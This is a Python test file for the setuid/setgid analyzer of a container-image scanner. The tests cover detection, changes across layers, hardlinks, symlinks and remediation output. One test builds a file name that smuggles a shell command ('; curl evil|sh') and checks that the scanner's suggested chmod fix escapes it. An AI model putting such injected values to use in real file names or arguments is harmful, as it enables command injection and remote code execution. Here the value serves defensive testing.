"""SUID and SGID files: found and not found."""

from __future__ import annotations

from hashlib import sha256

import pytest

from imgscan.analyzers.setuid.analyzer import Setuid
from imgscan.analyzers.setuid.facts import Form, SetuidFact
from imgscan.model.finding import Severity, State
from imgscan.model.image import HistoryItem, ImageConfig
from imgscan.model.limits import Limits
from imgscan.testing import TarBuilder, conclude, facts_of, sparse_member
from imgscan.testing.image import LayerSource

SU = TarBuilder().file("bin/su", b"\x7fELF", mode=0o4755)


def found(*layers: LayerSource) -> list[tuple[str, str | None, str]]:
    """Return rule, path and state of each finding."""
    return [(item.rule, item.path, str(item.state)) for item in conclude(Setuid(), *layers).findings]


# What it finds


def test_it_finds_a_suid_file() -> None:
    result = conclude(Setuid(), SU)

    (finding,) = result.findings
    assert (finding.rule, finding.severity, finding.path) == ("setuid.suid-file", Severity.MEDIUM, "bin/su")
    assert "uid 0" in finding.message
    assert "4755" in finding.message
    assert finding.evidence["mode"] == "4755"
    assert finding.evidence["sha256"] == finding.identity == sha256(b"\x7fELF").hexdigest()
    assert finding.remediation == "RUN chmod u-s /bin/su"
    (item,) = result.items
    assert (item.section, item.data["path"], item.data["mode"], item.data["layer"]) == ("setuid", "/bin/su", "4755", 0)
    assert result.problems == ()


def test_it_finds_a_sgid_file() -> None:
    result = conclude(Setuid(), TarBuilder().file("bin/wall", b"\x7fELF", mode=0o2755, gid=5))

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("setuid.sgid-file", Severity.LOW)
    assert "gid 5" in finding.message
    assert finding.remediation == "RUN chmod g-s /bin/wall"
    assert [item.section for item in result.items] == ["setgid"]


def test_a_file_with_both_bits_is_one_finding_and_in_both_lists() -> None:
    result = conclude(Setuid(), TarBuilder().file("x", b"x", mode=0o6755, uid=1, gid=2))

    (finding,) = result.findings
    assert finding.rule == "setuid.suid-file"
    assert "uid 1 and gid 2" in finding.message
    assert finding.remediation == "RUN chmod ug-s /x"
    assert [item.section for item in result.items] == ["setuid", "setgid"]


def test_a_file_without_execute_permission_or_content_is_found_too() -> None:
    assert found(TarBuilder().file("a", mode=0o4644).file("b", mode=0o4000)) == [
        ("setuid.suid-file", "a", "visible"),
        ("setuid.suid-file", "b", "visible"),
    ]


def test_a_sparse_suid_file_is_found() -> None:
    tar = TarBuilder().raw(sparse_member("1.0", "s", [(0, b"x"), (99, b"")], 99, mode=0o4755))

    assert found(tar) == [("setuid.suid-file", "s", "visible")]


# What became of it


@pytest.mark.parametrize(
    ("upper", "state"),
    [
        (TarBuilder().whiteout("bin/su"), "deleted"),
        (TarBuilder().opaque("bin"), "deleted"),
        (TarBuilder().file("bin/su", b"\x7fELF", mode=0o755), "overwritten"),
    ],
)
def test_one_that_a_later_layer_took_away_is_told_as_gone(upper: TarBuilder, state: str) -> None:
    result = conclude(Setuid(), SU, upper)

    (finding,) = result.findings
    assert (finding.state, finding.severity, finding.remediation) == (State(state), Severity.INFO, "")
    assert finding.removed_in is not None
    assert (finding.layer and finding.layer.index, finding.removed_in.index) == (0, 1)
    assert result.items == ()


def test_one_that_a_later_layer_replaces_by_another_is_found_twice() -> None:
    assert found(SU, TarBuilder().file("bin/su", b"new", mode=0o4711)) == [
        ("setuid.suid-file", "bin/su", "overwritten"),
        ("setuid.suid-file", "bin/su", "visible"),
    ]


def test_a_bit_set_by_a_later_layer_is_that_layers() -> None:
    config = ImageConfig(
        present=True,
        diff_ids=("a", "b"),
        history=(HistoryItem("ADD", empty_layer=False), HistoryItem("RUN chmod u+s", empty_layer=False)),
    )
    result = conclude(Setuid(), {"bin/x": (0o755, b"x")}, {"bin/x": (0o4755, b"x")}, config=config)

    (finding,) = result.findings
    assert finding.layer is not None
    assert (finding.layer.index, finding.layer.created_by) == (1, "RUN chmod u+s")
    assert result.items[0].data["created_by"] == "RUN chmod u+s"


# Hardlinks and links


def test_hardlinks_are_one_finding_with_all_names() -> None:
    tar = TarBuilder().file("bin/sudo", b"x", mode=0o4755).hardlink("bin/sudoedit", "bin/sudo", mode=0o4755)

    (finding,) = conclude(Setuid(), tar).findings

    assert finding.path == "bin/sudo"
    assert finding.evidence["names"] == ["/bin/sudo", "/bin/sudoedit"]


def test_a_name_that_stays_keeps_the_finding_visible() -> None:
    tar = TarBuilder().file("bin/sudo", b"x", mode=0o4755).hardlink("bin/sudoedit", "bin/sudo", mode=0o4755)

    (finding,) = conclude(Setuid(), tar, TarBuilder().whiteout("bin/sudo")).findings

    assert (finding.state, finding.path) == (State.VISIBLE, "bin/sudoedit")


def test_a_symlink_to_a_suid_file_is_no_finding_of_its_own() -> None:
    assert found(SU, TarBuilder().symlink("usr/su", "/bin/su", mode=0o4777)) == [
        ("setuid.suid-file", "bin/su", "visible")
    ]


# What it does not find


@pytest.mark.parametrize(
    "tar",
    [
        TarBuilder().file("bin/su", b"x", mode=0o755),
        TarBuilder().file("tmp/x", b"x", mode=0o1777),
        TarBuilder().directory("d", mode=0o4755),
        TarBuilder().symlink("s", "x", mode=0o4777),
        TarBuilder().member("null", typeflag=b"3", mode=0o4666, major=1, minor=3),
        TarBuilder().hardlink("bin/su", "nothing", mode=0o4755),
        TarBuilder().member("su", typeflag=b"6", mode=0o4755),
    ],
)
def test_it_does_not_find(tar: TarBuilder) -> None:
    result = conclude(Setuid(), tar)

    assert result.findings == ()
    assert result.items == ()


def test_a_hardlink_entry_with_the_bit_its_file_lacks_is_a_warning_of_the_merge() -> None:
    tar = TarBuilder().file("x", b"x", mode=0o755).hardlink("su", "x", mode=0o4755)
    result = conclude(Setuid(), tar)

    assert result.findings == ()
    assert [item.code for item in result.problems] == ["hardlink-attributes"]


# Safety


def test_a_remedy_can_be_pasted_whatever_the_name() -> None:
    (finding,) = conclude(Setuid(), TarBuilder().file("bin/x; curl evil|sh #'", b"x", mode=0o4755)).findings

    assert finding.remediation == "RUN chmod u-s \"$(printf '/bin/x\\073 curl evil\\174sh \\043\\047')\""


def test_its_facts_are_values_with_fields() -> None:
    ((path, data),) = facts_of(Setuid(), SU)

    assert path == "bin/su"
    assert isinstance(data, SetuidFact)
    assert (data.form, data.sha256, data.names) == (Form.ELF, sha256(b"\x7fELF").hexdigest(), None)


# Beyond the bound of a report


def test_beyond_the_bound_findings_are_counted_by_severity_and_not_written_out() -> None:
    tar = TarBuilder().file("a", b"\x7fELF", mode=0o4755).file("b", b"\x7fELF", mode=0o4755)
    tar.file("c", b"\x7fELF", mode=0o4757)

    result = conclude(Setuid(), tar, limits=Limits(findings_per_rule=1))

    assert [(item.severity, bool(item.message)) for item in result.findings] == [
        (Severity.MEDIUM, True),
        (Severity.MEDIUM, False),
        (Severity.CRITICAL, True),
    ]
    assert len(result.items) == 3
